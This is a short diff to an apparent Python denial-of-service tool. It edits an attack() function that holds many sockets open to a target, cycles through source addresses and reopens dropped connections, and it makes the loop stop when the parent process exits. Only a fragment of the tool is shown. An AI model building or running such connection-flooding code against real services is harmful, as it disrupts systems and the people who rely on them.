@@ -97,11 +97,12 @@ def encrypted(sock: socket.socket) -> ssl.SSLSocket:
 
 
 def attack(plan: Attack, port: int, is_https: bool, code: bytes) -> None:
-    """Go on for ever; connections that are hung up on are opened again."""
+    """Go on until the parent ends; connections that are hung up on are opened again."""
     os.nice(10)  # of the device, not of its processor, is the time that is to be taken
     sources = cycle(plan.sources)
     clients: list[socket.socket | None] = [None] * plan.number
-    while True:
+    parent = os.getppid()
+    while os.getppid() == parent:
         for index, client in enumerate(clients):
             try:
                 if client is None:
